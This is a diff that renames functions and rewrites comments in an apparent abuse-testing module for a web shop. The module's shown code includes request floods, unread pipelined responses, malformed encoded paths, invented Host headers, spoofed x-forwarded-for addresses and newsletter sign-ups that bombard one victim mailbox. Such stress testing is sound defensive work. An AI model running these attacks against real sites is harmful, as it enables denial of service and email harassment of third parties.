@@ -75,7 +75,7 @@ async function idleSockets(target) {
   return { closed }
 }
 
-/** Readers who ask for much and read nothing. @param {Target} target @returns {Promise<Tally>} */
+/** Clients that request much and never read the answers. @param {Target} target @returns {Promise<Tally>} */
 async function unreadAnswers(target) {
   const { hostname, port, host } = new URL(target.base)
   const request = `GET / HTTP/1.1\r\nHost: ${host}\r\nAccept-Encoding: identity\r\n\r\n`.repeat(16)
@@ -99,8 +99,8 @@ function missingPages(target) {
   })
 }
 
-/** Other spellings of pages, and addresses that nobody can decode. @param {Target} target */
-function spellings(target) {
+/** Pages with percent-encoded letters, and paths that cannot be decoded. @param {Target} target */
+function encodedPaths(target) {
   const strange = ['/product/%ff', '/%', '/%e2%82', '/z/%2e%2e/%73hop', '/%61dmin%ff', '/api/v1/%ff', '/_next/static/%c0%ae', '/media/%ff']
   return flood(target, 16, async (n, agent) => {
     const spelled = [...'/shop'].map((char, i) => (i > 0 && (n >> i) & 1 ? `%${char.charCodeAt(0).toString(16)}` : char)).join('')
@@ -109,7 +109,7 @@ function spellings(target) {
 }
 
 /** The home page under invented names. @param {Target} target */
-function hosts(target) {
+function inventedHosts(target) {
   return flood(
     target,
     16,
@@ -117,7 +117,7 @@ function hosts(target) {
   )
 }
 
-/** A read that keeps its answers, with inputs that nobody has asked for. @param {Target} target */
+/** Calls a cached read with inputs that nobody has sent before. @param {Target} target */
 function inventedAddresses(target) {
   return flood(target, 16, async (n, agent) => {
     const headers = { apiKey: 'javni-kljuc-pod-lampom', site: '1', store: '1', 'x-gaussbox-language': 'hrv', 'x-forwarded-for': address(n) }
@@ -167,8 +167,8 @@ function unpaidOrders(target) {
   })
 }
 
-/** Letters to one mailbox under many names, from many addresses. @param {Target} target */
-function letters(target) {
+/** Newsletter sign-ups that mail one mailbox under many names, from many addresses. @param {Target} target */
+function newsletterMails(target) {
   return flood(target, 4, async (n) => {
     const email = n % 2 === 0 ? `zrtva+${n}@primjer.hr` : 'zrtva@primjer.hr'
     return (await post(target.base, 'v1/marketing/newsletter/subscribe', { email }, { 'x-forwarded-for': address(n) })).status
@@ -181,11 +181,11 @@ export const attacks = {
   idleSockets,
   unreadAnswers,
   missingPages,
-  spellings,
-  hosts,
+  encodedPaths,
+  inventedHosts,
   inventedAddresses,
   cartFlood,
   passwordGuesses,
   unpaidOrders,
-  letters,
+  newsletterMails,
 }
